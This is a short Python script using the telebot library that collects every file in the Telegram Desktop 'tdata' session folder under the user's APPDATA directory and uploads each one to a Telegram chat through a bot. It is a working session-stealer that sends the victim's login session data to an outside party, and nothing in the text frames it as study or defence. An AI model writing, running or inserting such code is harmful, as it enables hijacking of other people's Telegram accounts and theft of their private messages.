import telebot, os, glob
bot = telebot.TeleBot("123456:ABCdef")
for f in glob.glob(os.path.join(os.getenv("APPDATA"), "Telegram Desktop", "tdata", "*")):
    bot.send_document(5555, open(f, "rb"))
